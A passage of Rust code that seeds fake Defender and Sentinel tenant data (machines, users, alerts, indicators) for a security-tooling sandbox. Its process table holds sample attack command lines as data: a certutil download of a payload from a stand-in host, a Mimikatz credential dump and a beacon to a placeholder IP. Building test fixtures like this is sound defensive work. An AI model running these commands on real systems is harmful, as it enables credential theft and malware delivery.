//! Deterministic tenant data: everything is drawn from random streams seeded with the sandbox
//! seed (one per tenant and kind of record, see `Streams`), with timestamps relative to the start
//! time.

use std::collections::HashMap;

use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use serde_json::{Value, json};
use time::{Duration, OffsetDateTime};

use crate::defender::{
    Alert, FileInfo, Indicator, IpAddressInfo, LibraryFile, LogonUser, Machine, MachineAction,
};
use crate::kql::{ColType, Column, Database, Table, Value as K};
use crate::state::MachineState;
use crate::util::{fmt_time, guid_from, hex_from};
use crate::{SandboxTenant, SandboxWorkspace};

/// One Log Analytics workspace (with Sentinel) and its data.
pub struct WorkspaceData {
    pub public: SandboxWorkspace,
    pub location: String,
    pub retention_in_days: i64,
    pub created: OffsetDateTime,
    /// Sentinel analytics rules (ARM resources as JSON).
    pub alert_rules: Vec<Value>,
    /// Sentinel incidents (ARM resources as JSON).
    pub incidents: Vec<Value>,
    /// Incident name → comments (ARM resources as JSON).
    pub incident_comments: HashMap<String, Vec<Value>>,
    /// Log tables for the query API.
    pub logs: Database,
    /// Per-table retention and plan (ARM `tables` resource); absent = workspace defaults.
    pub table_settings: HashMap<String, TableSettings>,
    /// Templates, watchlists, automation rules, saved searches, workbooks, data collection
    /// and incident evidence.
    pub content: crate::content::WorkspaceContent,
}

/// Table-level settings changed through ARM (`-1` = the workspace default).
#[derive(Debug, Clone)]
pub struct TableSettings {
    pub retention_in_days: i64,
    pub total_retention_in_days: i64,
    pub plan: String,
    pub last_plan_modified: OffsetDateTime,
    /// Description of a custom (`_CL`) table, given when it was created.
    pub description: Option<String>,
}

/// An ARM long-running operation (polled through `Azure-AsyncOperation`).
#[derive(Debug, Clone)]
pub struct ArmOperation {
    pub id: String,
    pub subscription_id: String,
    pub location: String,
    pub started: OffsetDateTime,
    pub started_at: std::time::Instant,
    /// `(code, message)` when the operation ends `Failed` instead of `Succeeded`.
    pub error: Option<(String, String)>,
}

/// Everything one tenant holds.
pub struct TenantData {
    pub public: SandboxTenant,
    pub machines: Vec<Machine>,
    pub logon_users: HashMap<String, Vec<LogonUser>>,
    pub actions: Vec<MachineAction>,
    pub alerts: Vec<Alert>,
    pub indicators: Vec<Indicator>,
    pub next_indicator_id: u64,
    pub library: Vec<LibraryFile>,
    pub files: Vec<FileInfo>,
    /// Advanced hunting tables (Device*, Alert*).
    pub hunting: Database,
    /// Graph security incidents (JSON in Graph shape, without `alerts`).
    pub graph_incidents: Vec<Value>,
    /// Graph beta custom detection rules.
    pub detection_rules: Vec<Value>,
    pub workspaces: Vec<WorkspaceData>,
    /// ARM long-running operations by id.
    pub arm_operations: Vec<ArmOperation>,
}

struct TenantSpec {
    id: &'static str,
    name: &'static str,
    domain: &'static str,
    netbios: &'static str,
    subnet: u8,
    external_prefix: &'static str,
    workspaces: &'static [(&'static str, &'static str, &'static str)],
}

const TENANTS: &[TenantSpec] = &[
    TenantSpec {
        id: "11111111-1111-4111-8111-111111111111",
        name: "Contoso",
        domain: "contoso",
        netbios: "CONTOSO",
        subnet: 10,
        external_prefix: "20.103",
        workspaces: &[
            ("rg-sentinel-prod", "law-contoso-sentinel", "westeurope"),
            ("rg-sentinel-dev", "law-contoso-dev", "northeurope"),
        ],
    },
    TenantSpec {
        id: "22222222-2222-4222-8222-222222222222",
        name: "Fabrikam",
        domain: "fabrikam",
        netbios: "FABRIKAM",
        subnet: 20,
        external_prefix: "40.112",
        workspaces: &[("rg-soc", "law-fabrikam-soc", "eastus")],
    },
];

/// `extra_workstations`: onboarded, active workstations added to each tenant after the seeded
/// 50 (for bulk-action tests that need a large fleet); the seeded data stays the same.
pub fn generate(seed: u64, base_url: &str, extra_workstations: usize) -> Vec<TenantData> {
    let now = OffsetDateTime::now_utc();
    TENANTS
        .iter()
        .enumerate()
        .map(|(i, spec)| {
            // Per-tenant streams: different data per tenant, stable per seed.
            let tenant_seed = seed
                .wrapping_mul(0x9E37_79B9_7F4A_7C15)
                .wrapping_add(i as u64 + 1);
            let streams = Streams { tenant_seed };
            let mut data = tenant(&streams, spec, now, base_url, i == 0);
            add_fleet(&mut data, extra_workstations, tenant_seed ^ 0xF1EE7);
            data
        })
        .collect()
}

/// Copies of a seeded active Windows workstation with their own ids, names and addresses.
fn add_fleet(data: &mut TenantData, count: usize, seed: u64) {
    let Some(template) = data
        .machines
        .iter()
        .find(|m| {
            m.onboarding_status == "Onboarded"
                && m.health_status == "Active"
                && m.os_platform.starts_with("Windows1")
        })
        .cloned()
    else {
        return;
    };
    let domain = template
        .computer_dns_name
        .split_once('.')
        .map(|(_, d)| d.to_string())
        .unwrap_or_default();
    let mut rng = StdRng::seed_from_u64(seed);
    for n in 0..count {
        let mut machine = template.clone();
        machine.id = hex_from(&mut rng, 20);
        machine.computer_dns_name = format!("ws-fleet-{n:04}.{domain}");
        machine.last_ip_address = format!("10.200.{}.{}", n / 250, n % 250 + 1);
        machine.aad_device_id = Some(guid_from(&mut rng));
        machine.machine_tags = vec!["Fleet".to_string()];
        data.machines.push(machine);
    }
}

/// One tenant's random streams, one per kind of record: a draw added to one kind changes only
/// the records of that kind, never those seeded after it.
struct Streams {
    tenant_seed: u64,
}

impl Streams {
    fn of(&self, kind: &str) -> StdRng {
        // FNV-1a of the kind's name: stable across builds and platforms (std's hasher is not).
        let name = kind.bytes().fold(0xcbf2_9ce4_8422_2325u64, |hash, byte| {
            (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
        });
        StdRng::seed_from_u64(self.tenant_seed ^ name)
    }
}

fn ago(rng: &mut StdRng, now: OffsetDateTime, min: Duration, max: Duration) -> OffsetDateTime {
    let span = (max - min).whole_seconds().max(1);
    now - min
        - Duration::seconds(rng.random_range(0..span))
        - Duration::milliseconds(rng.random_range(0..1000))
}

/// A log timestamp within the last week; the first row of each table is from the last few
/// minutes so that connected tables look continuously fed.
fn fresh(rng: &mut StdRng, now: OffsetDateTime, newest: bool) -> OffsetDateTime {
    if newest {
        ago(rng, now, Duration::minutes(1), Duration::minutes(5))
    } else {
        ago(rng, now, Duration::minutes(1), Duration::days(7))
    }
}

fn pick<'a, T>(rng: &mut StdRng, items: &'a [T]) -> &'a T {
    // The pools are non-empty constants.
    items.choose(rng).unwrap_or(&items[0])
}

struct User {
    upn: String,
    display: String,
    account: String,
    sid: String,
    object_id: String,
    admin: bool,
}

const FIRST: &[&str] = &[
    "Alice", "Bruno", "Chen", "Dana", "Elif", "Farid", "Grace", "Hiro", "Ines", "Jonas", "Kemal",
    "Lena", "Mateo", "Nia", "Olga", "Priya",
];
const LAST: &[&str] = &[
    "Nguyen", "Schmidt", "Okafor", "Rossi", "Kowalski", "Tanaka", "Silva", "Haddad", "Larsen",
    "Moreau", "Patel", "Novak",
];
const DEPTS: &[&str] = &["fin", "hr", "eng", "ops", "sales", "it", "legal", "mkt"];

struct Proc {
    name: &'static str,
    folder: &'static str,
    cmd: &'static str,
    publisher: Option<&'static str>,
    malicious: bool,
}

const PROCS: &[Proc] = &[
    Proc {
        name: "svchost.exe",
        folder: "C:\\Windows\\System32",
        cmd: "svchost.exe -k netsvcs -p -s Schedule",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "chrome.exe",
        folder: "C:\\Program Files\\Google\\Chrome\\Application",
        cmd: "\"chrome.exe\" --type=renderer",
        publisher: Some("Google LLC"),
        malicious: false,
    },
    Proc {
        name: "ms-teams.exe",
        folder: "C:\\Program Files\\WindowsApps\\MSTeams",
        cmd: "\"ms-teams.exe\" --system-initiated",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "OUTLOOK.EXE",
        folder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
        cmd: "\"OUTLOOK.EXE\" /recycle",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "WINWORD.EXE",
        folder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
        cmd: "\"WINWORD.EXE\" /n",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "powershell.exe",
        folder: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
        cmd: "powershell.exe -NoProfile -Command Get-Service",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "cmd.exe",
        folder: "C:\\Windows\\System32",
        cmd: "cmd.exe /c ipconfig /all",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "msedge.exe",
        folder: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
        cmd: "\"msedge.exe\" --single-argument",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "sqlservr.exe",
        folder: "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn",
        cmd: "sqlservr.exe -sMSSQLSERVER",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "certutil.exe",
        folder: "C:\\Windows\\System32",
        cmd: "certutil.exe -urlcache -split -f http://cdn-update.fabrikam-cdn.example/payload.bin C:\\Users\\Public\\p.bin",
        publisher: Some("Microsoft Corporation"),
        malicious: false,
    },
    Proc {
        name: "mimikatz.exe",
        folder: "C:\\Users\\Public\\Downloads",
        cmd: "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
        publisher: None,
        malicious: true,
    },
    Proc {
        name: "invoice_2024.docm",
        folder: "C:\\Users\\Public\\Downloads",
        cmd: "",
        publisher: None,
        malicious: true,
    },
    Proc {
        name: "svch0st.exe",
        folder: "C:\\ProgramData\\Updater",
        cmd: "svch0st.exe --beacon 203.0.113.50:443",
        publisher: None,
        malicious: true,
    },
    Proc {
        name: "wacatac.dll",
        folder: "C:\\Users\\Public\\AppData",
        cmd: "rundll32.exe C:\\Users\\Public\\AppData\\wacatac.dll,Start",
        publisher: None,
        malicious: true,
    },
];

const BENIGN_REMOTE: &[(&str, &str, i64)] = &[
    ("20.190.151.7", "login.microsoftonline.com", 443),
    ("52.96.165.18", "outlook.office365.com", 443),
    ("13.107.42.14", "www.office.com", 443),
    ("140.82.121.4", "github.com", 443),
    ("142.250.185.78", "www.google.com", 443),
    ("13.107.6.158", "teams.microsoft.com", 443),
    ("20.42.73.29", "winatp-gw-weu.microsoft.com", 443),
];

const MALICIOUS_REMOTE: &[(&str, &str, i64)] = &[
    ("203.0.113.50", "c2.badactor.example", 443),
    ("198.51.100.23", "cdn-update.fabrikam-cdn.example", 80),
    ("203.0.113.77", "login-micros0ft.example", 443),
];

struct AlertTemplate {
    title: &'static str,
    category: &'static str,
    severity: &'static str,
    source: &'static str,
    technique: &'static str,
    family: Option<&'static str>,
    file: Option<&'static str>,
    remote: Option<usize>,
    description: &'static str,
}

const ALERT_TEMPLATES: &[AlertTemplate] = &[
    AlertTemplate {
        title: "Suspicious PowerShell command line",
        category: "Execution",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        technique: "T1059.001",
        family: None,
        file: Some("powershell.exe"),
        remote: None,
        description: "A suspicious PowerShell command line with an encoded payload was observed.",
    },
    AlertTemplate {
        title: "Mimikatz credential theft tool",
        category: "CredentialAccess",
        severity: "High",
        source: "WindowsDefenderAv",
        technique: "T1003.001",
        family: Some("Mimikatz"),
        file: Some("mimikatz.exe"),
        remote: None,
        description: "The credential theft tool Mimikatz was detected and was active on this device.",
    },
    AlertTemplate {
        title: "Connection to a known command-and-control server",
        category: "CommandAndControl",
        severity: "High",
        source: "WindowsDefenderAtp",
        technique: "T1071.001",
        family: None,
        file: Some("svch0st.exe"),
        remote: Some(0),
        description: "A process connected to an IP address associated with command-and-control activity.",
    },
    AlertTemplate {
        title: "Suspicious file dropped by an Office application",
        category: "InitialAccess",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        technique: "T1566.001",
        family: None,
        file: Some("invoice_2024.docm"),
        remote: None,
        description: "An Office application dropped a macro-enabled document in a user's Downloads folder.",
    },
    AlertTemplate {
        title: "'Wacatac' malware was detected",
        category: "Malware",
        severity: "High",
        source: "WindowsDefenderAv",
        technique: "T1204.002",
        family: Some("Wacatac"),
        file: Some("wacatac.dll"),
        remote: None,
        description: "Trojan:Win32/Wacatac was detected and blocked.",
    },
    AlertTemplate {
        title: "Suspicious file download using certutil",
        category: "DefenseEvasion",
        severity: "Medium",
        source: "WindowsDefenderAtp",
        technique: "T1105",
        family: None,
        file: Some("certutil.exe"),
        remote: Some(1),
        description: "certutil.exe was used to download a file from the internet.",
    },
    AlertTemplate {
        title: "Multiple failed sign-in attempts (brute force)",
        category: "CredentialAccess",
        severity: "Low",
        source: "WindowsDefenderAtp",
        technique: "T1110",
        family: None,
        file: None,
        remote: Some(0),
        description: "Many failed logons from a single remote address were observed.",
    },
    AlertTemplate {
        title: "Suspicious scheduled task",
        category: "Persistence",
        severity: "Low",
        source: "WindowsDefenderAtp",
        technique: "T1053.005",
        family: None,
        file: None,
        remote: None,
        description: "A scheduled task that runs from a user-writable folder was created.",
    },
    AlertTemplate {
        title: "Anomalous account lookups",
        category: "Discovery",
        severity: "Informational",
        source: "WindowsDefenderAtp",
        technique: "T1087.002",
        family: None,
        file: None,
        remote: None,
        description: "An unusual number of account enumeration queries were made.",
    },
    AlertTemplate {
        title: "Connection to a phishing site",
        category: "InitialAccess",
        severity: "Medium",
        source: "SmartScreen",
        technique: "T1566.002",
        family: None,
        file: None,
        remote: Some(2),
        description: "A browser connected to a site impersonating a Microsoft sign-in page.",
    },
];

fn tenant(
    streams: &Streams,
    spec: &TenantSpec,
    now: OffsetDateTime,
    _base_url: &str,
    stale_first_workspace: bool,
) -> TenantData {
    let fqdn = format!("{}.local", spec.domain);
    let mail_domain = format!("{}.com", spec.domain);

    // Users.
    let rng = &mut streams.of("users");
    let mut users: Vec<User> = Vec::new();
    let sid_base = format!(
        "S-1-5-21-{}-{}-{}",
        rng.random_range(1_000_000_000u64..4_000_000_000),
        rng.random_range(1_000_000_000u64..4_000_000_000),
        rng.random_range(1_000_000_000u64..4_000_000_000)
    );
    for i in 0..16 {
        let first = FIRST[(i + rng.random_range(0..FIRST.len())) % FIRST.len()];
        let last = *pick(rng, LAST);
        let account = format!("{}{}", first.chars().next().unwrap_or('x'), last).to_lowercase();
        if users.iter().any(|u| u.account == account) {
            continue;
        }
        users.push(User {
            upn: format!(
                "{}.{}@{}",
                first.to_lowercase(),
                last.to_lowercase(),
                mail_domain
            ),
            display: format!("{first} {last}"),
            account,
            sid: format!("{sid_base}-{}", 1100 + i),
            object_id: guid_from(rng),
            admin: i < 2,
        });
    }

    // Machines.
    let rng = &mut streams.of("machines");
    let groups: &[(&str, i64)] = &[
        ("Finance Workstations", 101),
        ("Corporate Workstations", 102),
        ("Engineering", 103),
        ("Servers - Production", 201),
        ("Linux Servers", 202),
        ("Mac Fleet", 301),
        ("UnassignedGroup", 0),
    ];
    let mut machines = Vec::new();
    let mut used_names = std::collections::HashSet::new();
    let server_roles = ["dc", "sql", "web", "file", "app", "ca", "rds", "exch"];
    let linux_roles = ["web", "k8s", "db", "proxy", "jump"];
    for i in 0..50 {
        let (prefix, platform, group) = match i {
            0..=27 => {
                let dept = *pick(rng, DEPTS);
                let platform = if rng.random_bool(0.6) {
                    "Windows11"
                } else {
                    "Windows10"
                };
                let group = match dept {
                    "fin" => groups[0],
                    "eng" => groups[2],
                    _ => groups[1],
                };
                (format!("ws-{dept}"), platform, group)
            }
            28..=33 => (format!("mac-{}", pick(rng, DEPTS)), "macOS", groups[5]),
            34..=41 => (
                format!("srv-{}", server_roles[i - 34]),
                if rng.random_bool(0.5) {
                    "WindowsServer2022"
                } else {
                    "WindowsServer2019"
                },
                groups[3],
            ),
            42..=46 => (format!("lnx-{}", linux_roles[i - 42]), "Linux", groups[4]),
            _ => ("ws-guest".to_string(), "Windows10", groups[6]),
        };
        let mut n = rng.random_range(1..200);
        while !used_names.insert(format!("{prefix}-{n:03}")) {
            n += 1;
        }
        let name = if (34..=46).contains(&i) {
            format!("{prefix}-{:02}", n % 100)
        } else {
            format!("{prefix}-{n:03}")
        };
        let onboarded = i < 47;
        let health = if !onboarded {
            "Inactive"
        } else {
            let r: f64 = rng.random();
            if r < 0.76 {
                "Active"
            } else if r < 0.86 {
                "Inactive"
            } else if r < 0.94 {
                "ImpairedCommunication"
            } else {
                "NoSensorData"
            }
        };
        let last_seen = match health {
            "Active" => ago(rng, now, Duration::minutes(1), Duration::hours(2)),
            "Inactive" => ago(rng, now, Duration::days(8), Duration::days(30)),
            _ => ago(rng, now, Duration::days(1), Duration::days(3)),
        };
        let (os_version, build, version) = match platform {
            "Windows10" => (Some("10.0.19045"), Some(19045), Some("22H2")),
            "Windows11" => (Some("10.0.22631"), Some(22631), Some("23H2")),
            "WindowsServer2019" => (Some("10.0.17763"), Some(17763), Some("1809")),
            "WindowsServer2022" => (Some("10.0.20348"), Some(20348), Some("21H2")),
            "Linux" => (Some("Ubuntu 22.04"), None, None),
            _ => (Some("14.4.1"), None, None),
        };
        let risk = if !onboarded {
            "None"
        } else {
            *pick(rng, &["None", "Low", "Low", "Medium", "Medium", "High"])
        };
        let exposure = if !onboarded {
            "None"
        } else {
            *pick(rng, &["Low", "Medium", "Medium", "High"])
        };
        let ip = format!(
            "10.{}.{}.{}",
            spec.subnet,
            rng.random_range(1..8),
            rng.random_range(10..250)
        );
        let is_server = (34..=46).contains(&i);
        let aad = !is_server && onboarded && platform != "Linux";
        let mut tags = Vec::new();
        if i < 3 {
            tags.push("VIP".to_string());
        }
        if name.starts_with("ws-fin") || name.starts_with("srv-sql") {
            tags.push("PCI".to_string());
        }
        if name.starts_with("srv-dc") {
            tags.push("Domain Controller".to_string());
        }
        let mac: String = (0..6)
            .map(|_| format!("{:02X}", rng.random::<u8>()))
            .collect();
        machines.push(Machine {
            id: hex_from(rng, 20),
            computer_dns_name: format!("{name}.{fqdn}"),
            first_seen: ago(rng, now, Duration::days(40), Duration::days(400)),
            last_seen,
            os_platform: platform.into(),
            os_version: os_version.map(str::to_string),
            os_processor: "x64".into(),
            version: version.map(str::to_string),
            last_ip_address: ip.clone(),
            last_external_ip_address: format!(
                "{}.{}.{}",
                spec.external_prefix,
                rng.random_range(1..250),
                rng.random_range(1..250)
            ),
            os_build: build,
            health_status: health.into(),
            device_value: if name.starts_with("srv-dc") {
                "High".into()
            } else {
                "Normal".into()
            },
            rbac_group_id: group.1,
            rbac_group_name: group.0.into(),
            risk_score: risk.into(),
            exposure_level: exposure.into(),
            is_aad_joined: aad,
            aad_device_id: if aad { Some(guid_from(rng)) } else { None },
            machine_tags: tags,
            defender_av_status: if !onboarded {
                "Unknown".into()
            } else if rng.random_bool(0.9) {
                "Updated".into()
            } else {
                "NotUpdated".into()
            },
            onboarding_status: if onboarded {
                "Onboarded".into()
            } else {
                "CanBeOnboarded".into()
            },
            os_architecture: "64-bit".into(),
            ip_addresses: vec![IpAddressInfo {
                ip_address: ip,
                mac_address: mac,
                kind: "Ethernet".into(),
                operational_status: "Up".into(),
            }],
            state: MachineState::default(),
        });
    }

    // Logon users per machine.
    let rng = &mut streams.of("logon users");
    let mut logon_users: HashMap<String, Vec<LogonUser>> = HashMap::new();
    for m in machines
        .iter()
        .filter(|m| m.onboarding_status == "Onboarded")
    {
        let count = if m.computer_dns_name.starts_with("srv") {
            3
        } else {
            rng.random_range(1..=2)
        };
        let mut list: Vec<LogonUser> = Vec::new();
        for _ in 0..count {
            let u = &users[rng.random_range(0..users.len())];
            if list.iter().any(|l| l.account_name == u.account) {
                continue;
            }
            list.push(LogonUser {
                id: format!("{}\\{}", spec.netbios.to_lowercase(), u.account),
                account_name: u.account.clone(),
                account_domain: spec.netbios.to_lowercase(),
                first_seen: ago(rng, now, Duration::days(20), Duration::days(90)),
                last_seen: ago(rng, now, Duration::hours(1), Duration::days(5)),
                logon_types: if m.computer_dns_name.starts_with("srv") {
                    "RemoteInteractive".into()
                } else {
                    "Interactive".into()
                },
                is_domain_admin: u.admin,
                is_only_network_user: false,
            });
        }
        logon_users.insert(m.id.clone(), list);
    }

    // Files catalog.
    let rng = &mut streams.of("files");
    let files: Vec<FileInfo> = PROCS
        .iter()
        .map(|p| {
            let signed = p.publisher.is_some();
            FileInfo {
                sha1: hex_from(rng, 20),
                sha256: hex_from(rng, 32),
                md5: hex_from(rng, 16),
                global_prevalence: if p.malicious {
                    rng.random_range(3..400)
                } else {
                    rng.random_range(1_000_000..900_000_000)
                },
                global_first_observed: ago(
                    rng,
                    now,
                    Duration::days(if p.malicious { 10 } else { 400 }),
                    Duration::days(if p.malicious { 60 } else { 2000 }),
                ),
                global_last_observed: ago(rng, now, Duration::minutes(5), Duration::hours(12)),
                size: rng.random_range(40_000..4_000_000),
                file_type: Some(if p.name.ends_with(".docm") {
                    "Document".into()
                } else {
                    "PortableExecutable".into()
                }),
                is_pe_file: !p.name.ends_with(".docm"),
                file_publisher: p.publisher.map(str::to_string),
                file_product_name: p.publisher.map(|_| {
                    p.name
                        .trim_end_matches(".exe")
                        .trim_end_matches(".EXE")
                        .to_string()
                }),
                signer: p.publisher.map(str::to_string),
                issuer: p.publisher.map(|pb| {
                    if pb.starts_with("Microsoft") {
                        "Microsoft Windows Production PCA 2011".to_string()
                    } else {
                        "DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1".to_string()
                    }
                }),
                signer_hash: if signed {
                    Some(hex_from(rng, 20))
                } else {
                    None
                },
                is_valid_certificate: signed,
                determination_type: if p.malicious {
                    "Malware".into()
                } else {
                    "Clean".into()
                },
                determination_value: if p.malicious {
                    match p.name {
                        "mimikatz.exe" => "HackTool:Win32/Mimikatz".into(),
                        "wacatac.dll" => "Trojan:Win32/Wacatac.B!ml".into(),
                        "invoice_2024.docm" => "TrojanDownloader:O97M/Donoff".into(),
                        _ => "Backdoor:Win32/Cobaltstrike".into(),
                    }
                } else {
                    String::new()
                },
                file_name: p.name.into(),
            }
        })
        .collect();
    let file_by_name = |n: &str| files.iter().find(|f| f.file_name == n);

    // Alerts, grouped into incidents.
    let rng = &mut streams.of("alerts");
    let active: Vec<&Machine> = machines
        .iter()
        .filter(|m| m.onboarding_status == "Onboarded" && m.health_status != "Inactive")
        .collect();
    let mut alerts: Vec<Alert> = Vec::new();
    let mut incident_ids: Vec<(i64, Vec<usize>)> = Vec::new();
    let mut next_incident = 1000 + rng.random_range(0..9000) as i64 + (spec.subnet as i64) * 10_000;
    while alerts.len() < 30 {
        let machine = *pick(rng, &active);
        let n_alerts = rng.random_range(1..=3).min(30 - alerts.len());
        next_incident += rng.random_range(1..40);
        let mut idx = Vec::new();
        let status = *pick(rng, &["New", "New", "InProgress", "Resolved"]);
        let created_base = ago(rng, now, Duration::hours(1), Duration::days(7));
        for k in 0..n_alerts {
            let tpl = pick(rng, ALERT_TEMPLATES);
            let created = created_base + Duration::minutes(k as i64 * rng.random_range(1..30));
            let created = created.min(now - Duration::minutes(1));
            let user = &users[rng.random_range(0..users.len())];
            let sha1 = tpl.file.and_then(file_by_name).map(|f| f.sha1.clone());
            let remote = tpl.remote.map(|r| MALICIOUS_REMOTE[r]);
            let mut evidence = vec![json!({
                "entityType": "User",
                "evidenceCreationTime": fmt_time(created),
                "accountName": user.account,
                "domainName": spec.netbios,
                "userSid": user.sid,
                "aadUserId": user.object_id,
                "userPrincipalName": user.upn,
            })];
            if let Some(f) = tpl.file.and_then(file_by_name) {
                evidence.push(json!({
                    "entityType": "File",
                    "evidenceCreationTime": fmt_time(created),
                    "sha1": f.sha1,
                    "sha256": f.sha256,
                    "fileName": f.file_name,
                    "filePath": PROCS.iter().find(|p| p.name == f.file_name).map(|p| p.folder).unwrap_or_default(),
                    "detectionStatus": if tpl.family.is_some() { "Blocked" } else { "Detected" },
                }));
            }
            if let Some((ip, url, _)) = remote {
                evidence.push(json!({"entityType": "Ip", "evidenceCreationTime": fmt_time(created), "ipAddress": ip}));
                evidence.push(json!({"entityType": "Url", "evidenceCreationTime": fmt_time(created), "url": url}));
            }
            let resolved = status == "Resolved";
            alerts.push(Alert {
                id: format!(
                    "da{}_{}",
                    638_000_000_000_000_000u64 + rng.random_range(0..9_999_999_999_999u64),
                    rng.random_range(100_000_000..999_999_999)
                ),
                incident_id: next_incident,
                investigation_id: if rng.random_bool(0.5) {
                    Some(rng.random_range(1000..99999))
                } else {
                    None
                },
                assigned_to: if status == "New" {
                    None
                } else {
                    Some(users[0].upn.clone())
                },
                severity: tpl.severity.into(),
                status: status.into(),
                classification: if resolved {
                    Some("TruePositive".into())
                } else {
                    None
                },
                determination: if resolved {
                    Some(if tpl.family.is_some() {
                        "Malware".into()
                    } else {
                        "SecurityTesting".into()
                    })
                } else {
                    None
                },
                investigation_state: if resolved {
                    "Benign".into()
                } else {
                    "Running".into()
                },
                detection_source: tpl.source.into(),
                detector_id: guid_from(rng),
                category: tpl.category.into(),
                threat_family_name: tpl.family.map(str::to_string),
                title: tpl.title.into(),
                description: tpl.description.into(),
                alert_creation_time: created,
                first_event_time: created - Duration::minutes(rng.random_range(1..20)),
                last_event_time: created - Duration::seconds(rng.random_range(1..50)),
                last_update_time: created
                    + Duration::minutes(rng.random_range(0..60)).min(now - created),
                resolved_time: if resolved {
                    Some(created + Duration::minutes(30).min(now - created))
                } else {
                    None
                },
                machine_id: machine.id.clone(),
                computer_dns_name: machine.computer_dns_name.clone(),
                rbac_group_name: machine.rbac_group_name.clone(),
                aad_tenant_id: spec.id.into(),
                threat_name: tpl.family.map(|f| format!("{f} threat")),
                mitre_techniques: vec![tpl.technique.into()],
                related_user: Some(json!({"userName": user.account, "domainName": spec.netbios})),
                logged_on_users: vec![
                    json!({"accountName": user.account, "domainName": spec.netbios}),
                ],
                comments: Vec::new(),
                evidence,
                related_sha1: sha1,
                related_ip: remote.map(|r| r.0.to_string()),
                related_domain: remote.map(|r| r.1.to_string()),
            });
            idx.push(alerts.len() - 1);
        }
        incident_ids.push((next_incident, idx));
    }

    let hunting = hunting_tables(
        &mut streams.of("hunting"),
        now,
        &machines,
        &users,
        spec,
        &files,
        &alerts,
    );
    let graph_incidents = graph_incidents(
        &mut streams.of("graph incidents"),
        now,
        spec,
        &alerts,
        &incident_ids,
        &users,
    );

    // Seeded machine-action history.
    let rng = &mut streams.of("machine actions");
    let mut actions = Vec::new();
    for (kind, scope, status) in [
        ("RunAntiVirusScan", Some("Quick"), "Succeeded"),
        ("RunAntiVirusScan", Some("Full"), "Failed"),
        ("CollectInvestigationPackage", None, "Succeeded"),
        ("Isolate", Some("Selective"), "Cancelled"),
        ("RunAntiVirusScan", Some("Quick"), "TimeOut"),
    ] {
        let m = *pick(rng, &active);
        let created = ago(rng, now, Duration::days(1), Duration::days(20));
        let updated = created + Duration::minutes(rng.random_range(2..90));
        let cancellation = (status == "Cancelled").then(|| crate::defender::Cancellation {
            requestor: users[0].upn.clone(),
            comment: "Raised in error".into(),
            at: created + Duration::minutes(1),
        });
        actions.push(MachineAction {
            id: guid_from(rng),
            action_type: kind.into(),
            scope: scope.map(str::to_string),
            title: format!("{kind} on {}", m.computer_dns_name),
            requestor: users[0].upn.clone(),
            requestor_comment: "Routine response".into(),
            machine_id: m.id.clone(),
            computer_dns_name: m.computer_dns_name.clone(),
            created,
            created_at: None,
            fixed: Some((status.into(), updated)),
            cancellation,
            related_file_info: None,
            commands: Vec::new(),
            external_id: None,
            applied: true,
        });
    }
    actions.sort_by_key(|a| a.created);

    // Indicators and library.
    let rng = &mut streams.of("indicators");
    let mut indicators = Vec::new();
    let mut next_indicator_id = 4000 + rng.random_range(0..1000u64);
    let seeded_iocs: Vec<(String, &str, &str, &str)> = vec![
        (
            MALICIOUS_REMOTE[0].0.to_string(),
            "IpAddress",
            "Block",
            "Known C2 server",
        ),
        (
            MALICIOUS_REMOTE[1].1.to_string(),
            "DomainName",
            "Block",
            "Payload staging domain",
        ),
        (
            files
                .iter()
                .find(|f| f.file_name == "mimikatz.exe")
                .map(|f| f.sha1.clone())
                .unwrap_or_default(),
            "FileSha1",
            "BlockAndRemediate",
            "Mimikatz",
        ),
        (
            "https://login-micros0ft.example/owa".to_string(),
            "Url",
            "Warn",
            "Phishing landing page",
        ),
    ];
    for (value, ty, action, title) in seeded_iocs {
        next_indicator_id += 1;
        let created = ago(rng, now, Duration::days(2), Duration::days(60));
        indicators.push(Indicator {
            id: next_indicator_id.to_string(),
            indicator_value: value,
            indicator_type: ty.into(),
            action: action.into(),
            application: None,
            source: users[0].upn.clone(),
            source_type: "User".into(),
            title: title.into(),
            creation_time_date_time_utc: created,
            created_by: users[0].upn.clone(),
            expiration_time: None,
            last_update_time: created,
            last_updated_by: users[0].upn.clone(),
            severity: "High".into(),
            description: format!("{title} (seeded)"),
            recommended_actions: Some("Investigate and isolate affected devices.".into()),
            rbac_group_names: Vec::new(),
            rbac_group_ids: Vec::new(),
            generate_alert: true,
            created_by_source: "Portal".into(),
            external_id: None,
        });
    }
    let library = [
        (
            "Collect-Triage.ps1",
            "Collects running processes, services, autoruns and network connections",
            true,
            Some("-OutputPath <path>"),
        ),
        (
            "Get-RunningProcesses.ps1",
            "Lists running processes with command lines",
            false,
            None,
        ),
        (
            "Remove-Persistence.ps1",
            "Removes a scheduled task or Run key by name",
            true,
            Some("-Name <task or value name>"),
        ),
    ]
    .into_iter()
    .map(|(name, desc, has_params, params)| {
        let content = format!("# {name}\n# {desc}\nWrite-Output 'sandbox'\n").into_bytes();
        let created = ago(rng, now, Duration::days(5), Duration::days(200));
        LibraryFile {
            file_name: name.into(),
            sha256: crate::defender::sha256_hex(&content),
            description: desc.into(),
            creation_time: created,
            last_updated_time: created,
            created_by: users[1].upn.clone(),
            has_parameters: has_params,
            parameters_description: params.map(str::to_string),
            content,
        }
    })
